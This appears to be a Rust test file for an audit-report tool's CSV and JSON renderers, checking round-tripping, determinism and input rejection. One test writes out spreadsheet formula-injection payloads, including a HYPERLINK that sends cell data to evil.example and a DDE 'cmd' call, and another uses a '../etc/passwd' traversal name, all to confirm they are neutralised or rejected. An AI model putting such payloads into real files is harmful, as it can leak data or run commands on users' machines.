//! Guards the CSV, JSON and OSCAL renderers: every file parses back to what the report says,
//! untrusted cells cannot run as spreadsheet formulas, output is byte-for-byte deterministic,
//! and the OSCAL document validates against NIST's 1.1.3 schema.

use auditledger::event::Timestamp;
use auditledger::report::model::{Cell, Column, Report, Table};
use auditledger::report::render::{csv as csv_render, json as json_render, RenderError};

use crate::sample_report::sample_report;

#[test]
fn sample_report_round_trips_through_json() {
    let report = crate::sample_report::sample_report(3);
    let text = serde_json::to_string(&report).unwrap();
    let back: auditledger::report::model::Report = serde_json::from_str(&text).unwrap();
    assert_eq!(back, report);
}

// ---------------------------------------------------------------------------------------
// CSV

/// Parses one CSV file: (header, rows), after checking BOM and CRLF.
fn parse_csv(name: &str, bytes: &[u8]) -> (Vec<String>, Vec<Vec<String>>) {
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "{name}: no UTF-8 BOM");
    let lone_lf = bytes
        .iter()
        .enumerate()
        .filter(|&(i, &b)| b == b'\n' && (i == 0 || bytes[i - 1] != b'\r'))
        .count();
    assert_eq!(lone_lf, 0, "{name}: a line ends with LF, not CRLF");
    assert!(bytes.ends_with(b"\r\n"), "{name}: no final CRLF");
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(bytes);
    let header = reader
        .headers()
        .unwrap()
        .iter()
        .map(String::from)
        .collect::<Vec<_>>();
    assert!(
        !header[0].starts_with('\u{feff}'),
        "{name}: BOM read as data"
    );
    let rows = reader
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect();
    (header, rows)
}

fn file<'a>(files: &'a [(String, Vec<u8>)], name: &str) -> &'a [u8] {
    &files
        .iter()
        .find(|(n, _)| n == name)
        .unwrap_or_else(|| panic!("no file {name}"))
        .1
}

fn cell_text(cell: &Cell) -> String {
    match cell {
        Cell::Text(t) => t.clone(),
        Cell::Time(t) => t.to_rfc3339(),
        Cell::Count(n) => n.to_string(),
        Cell::Duration(s) => s.to_string(),
        Cell::Seqs(s) => s.iter().map(u64::to_string).collect::<Vec<_>>().join(";"),
        Cell::Severity(s) => s.as_str().to_string(),
        Cell::Empty => String::new(),
    }
}

/// What a reader does to undo the formula guard: drop one leading `'`.
fn unguard(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

#[test]
fn csv_files_are_named_by_kind_and_table() {
    let files = csv_render::render(&sample_report(5)).unwrap();
    let names: Vec<&str> = files.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(
        names,
        [
            "soc2-summary.csv",
            "soc2-cc6-2-population.csv",
            "soc2-findings.csv",
            "soc2-evidence.csv"
        ]
    );
}

#[test]
fn csv_tables_parse_back_with_their_headers_and_rows() {
    for rows in [0, 1, 5, 60] {
        let report = sample_report(rows);
        let files = csv_render::render(&report).unwrap();
        for table in report.sections.iter().flat_map(|s| &s.tables) {
            let name = format!("soc2-{}.csv", table.name);
            let (header, parsed) = parse_csv(&name, file(&files, &name));
            let keys: Vec<&str> = table.columns.iter().map(|c| c.key.as_str()).collect();
            assert_eq!(header, keys, "{name}");
            assert_eq!(parsed.len(), table.rows.len(), "{name}");
            for (got, want) in parsed.iter().zip(&table.rows) {
                let want: Vec<String> = want.iter().map(cell_text).collect();
                let got: Vec<&str> = got.iter().map(|c| unguard(c)).collect();
                assert_eq!(got, want, "{name}");
            }
        }
    }
    // The accented names arrive intact, and times and seqs in their documented forms.
    let files = csv_render::render(&sample_report(3)).unwrap();
    let (_, rows) = parse_csv("population", file(&files, "soc2-cc6-2-population.csv"));
    assert_eq!(
        rows[0],
        [
            "José Núñez",
            "2026-03-13",
            "2026-03-14T07:00:00Z",
            "2026-03-14T07:05:00Z",
            "12;13"
        ]
    );
    assert_eq!(rows[1][0], "Zoë Fischer");
}

#[test]
fn csv_summary_findings_and_evidence_match_the_report() {
    let report = sample_report(5);
    let files = csv_render::render(&report).unwrap();

    let (header, rows) = parse_csv("summary", file(&files, "soc2-summary.csv"));
    assert_eq!(header, csv_render::SUMMARY_HEADER);
    assert_eq!(rows.len(), report.summary.len());
    for (row, want) in rows.iter().zip(&report.summary) {
        assert_eq!(
            row,
            &[
                want.id.clone(),
                want.title.clone(),
                want.population.to_string(),
                want.exceptions.to_string(),
                want.conclusion.clone()
            ]
        );
    }

    let (header, rows) = parse_csv("findings", file(&files, "soc2-findings.csv"));
    assert_eq!(header, csv_render::FINDINGS_HEADER);
    assert_eq!(rows.len(), report.findings.len());
    for (row, f) in rows.iter().zip(&report.findings) {
        let seqs: Vec<String> = f.evidence.iter().map(|e| e.seq.to_string()).collect();
        assert_eq!(
            row,
            &[
                f.id.clone(),
                f.rule.clone(),
                f.severity.as_str().to_string(),
                f.subject.clone(),
                f.person.clone().unwrap_or_default(),
                f.at.to_rfc3339(),
                f.summary.clone(),
                f.controls.join(";"),
                seqs.join(";"),
            ]
        );
    }
    assert_eq!(rows[0][7], "SOC2:CC6.2;HIPAA:164.308(a)(3)(ii)(C)");
    assert_eq!(rows[0][8], "12;41");

    let (header, rows) = parse_csv("evidence", file(&files, "soc2-evidence.csv"));
    assert_eq!(header, csv_render::EVIDENCE_HEADER);
    assert_eq!(rows.len(), report.evidence.len());
    for (row, e) in rows.iter().zip(&report.evidence) {
        assert_eq!(
            row,
            &[
                e.seq.to_string(),
                e.hash.clone(),
                e.kind.clone(),
                e.source.clone(),
                e.occurred_at.to_rfc3339()
            ]
        );
    }
}

#[test]
fn csv_neutralises_formula_cells_from_log_data() {
    let mut report = sample_report(2);
    let payload = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    report.sections[0].tables[0].rows[0][0] = Cell::Text(payload.into());
    report.findings[0].person = Some("@SUM(1+1)".into());
    report.findings[0].summary = "+cmd|' /C calc'!A0".into();
    report.evidence[0].source = "-2+3".into();
    report.summary[0].title = "'quoted already".into();
    let files = csv_render::render(&report).unwrap();

    let (_, rows) = parse_csv("population", file(&files, "soc2-cc6-2-population.csv"));
    assert_eq!(rows[0][0], format!("'{payload}"));
    // The quote-wrapping keeps `;` and `,` inside the cell in any separator locale.
    let raw = String::from_utf8(file(&files, "soc2-cc6-2-population.csv").to_vec()).unwrap();
    assert!(raw.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""));
    assert!(raw.contains("\"12;13\""));

    let (_, rows) = parse_csv("findings", file(&files, "soc2-findings.csv"));
    assert_eq!(rows[0][4], "'@SUM(1+1)");
    assert_eq!(rows[0][6], "'+cmd|' /C calc'!A0");
    let (_, rows) = parse_csv("evidence", file(&files, "soc2-evidence.csv"));
    assert_eq!(rows[0][3], "'-2+3");
    let (_, rows) = parse_csv("summary", file(&files, "soc2-summary.csv"));
    assert_eq!(
        rows[0][1], "''quoted already",
        "a leading ' is doubled, so it reverses"
    );
    // No cell of any file begins with a formula trigger (a number may begin with `-`).
    for (name, bytes) in &files {
        let (header, rows) = parse_csv(name, bytes);
        for c in header.iter().chain(rows.iter().flatten()) {
            let formula = match c.trim_start().chars().next() {
                Some('=' | '+' | '@') => true,
                Some('-') => c.parse::<i64>().is_err(),
                _ => false,
            };
            assert!(!formula, "{name}: {c:?}");
        }
    }
}

#[test]
fn csv_negative_durations_stay_numbers() {
    let mut report = sample_report(1);
    let table = &mut report.sections[0].tables[0];
    table.columns.push(Column {
        key: "after_expiry_seconds".into(),
        title: "After expiry".into(),
        width: 1,
    });
    table.rows[0].push(Cell::Duration(-3600));
    let files = csv_render::render(&report).unwrap();
    let (header, rows) = parse_csv("population", file(&files, "soc2-cc6-2-population.csv"));
    assert_eq!(header.last().unwrap(), "after_expiry_seconds");
    assert_eq!(rows[0].last().unwrap(), "-3600");
}

#[test]
fn csv_rejects_reports_it_cannot_write_faithfully() {
    let bad_name = |name: &str| {
        let mut report = sample_report(1);
        report.sections[0].tables[0].name = name.into();
        csv_render::render(&report)
    };
    for name in ["../etc/passwd", "", ".hidden", "a/b", "a b"] {
        assert!(
            matches!(bad_name(name), Err(RenderError::TableName { .. })),
            "{name:?}"
        );
    }
    for name in ["summary", "findings", "evidence"] {
        assert!(
            matches!(bad_name(name), Err(RenderError::DuplicateFile(_))),
            "{name:?}"
        );
    }

    let mut report = sample_report(2);
    report.sections[0].tables[0].rows[1].pop();
    let err = csv_render::render(&report).unwrap_err();
    assert!(
        matches!(
            err,
            RenderError::RowWidth {
                row: 2,
                expected: 5,
                got: 4,
                ..
            }
        ),
        "{err}"
    );

    let mut report = sample_report(1);
    report.sections[0].tables.push(Table {
        name: "empty".into(),
        title: "Empty".into(),
        columns: vec![],
        rows: vec![vec![Cell::Empty]],
        empty_text: String::new(),
    });
    assert!(csv_render::render(&report).is_err());

    let mut report = sample_report(1);
    report.findings[0].controls.push("A;B".into());
    assert!(matches!(
        csv_render::render(&report),
        Err(RenderError::ListSeparator { .. })
    ));

    let mut report = sample_report(1);
    report.sections[0].tables[0].rows[0][2] = Cell::Time(Timestamp(i64::MAX));
    let err = csv_render::render(&report).unwrap_err();
    assert!(matches!(err, RenderError::TimeOutOfRange { .. }), "{err}");
}

#[test]
fn csv_is_deterministic() {
    let report: Report = sample_report(60);
    assert_eq!(
        csv_render::render(&report).unwrap(),
        csv_render::render(&report).unwrap()
    );
}

// ---------------------------------------------------------------------------------------
// JSON

#[test]
fn json_parses_back_to_the_same_report() {
    for rows in [0, 5, 60] {
        let report = sample_report(rows);
        let bytes = json_render::render(&report);
        assert!(bytes.ends_with(b"}\n"), "trailing newline");
        assert!(!bytes.starts_with(b"\xEF\xBB\xBF"));
        let back: Report = serde_json::from_slice(&bytes).unwrap();
        assert_eq!(back, report);
    }
    let text = String::from_utf8(json_render::render(&sample_report(1))).unwrap();
    assert!(text.starts_with("{\n  \"schema_version\": 1,\n  \"kind\": \"soc2\","));
    assert!(text.contains("\"generated_at\": \"2026-04-01T09:00:00Z\""));
    assert!(text.contains("\"type\": \"seqs\",\n"));
    assert!(text.contains("José Núñez"), "UTF-8, not \\u escapes");
}

#[test]
fn json_is_deterministic() {
    let report = sample_report(60);
    assert_eq!(json_render::render(&report), json_render::render(&report));
}
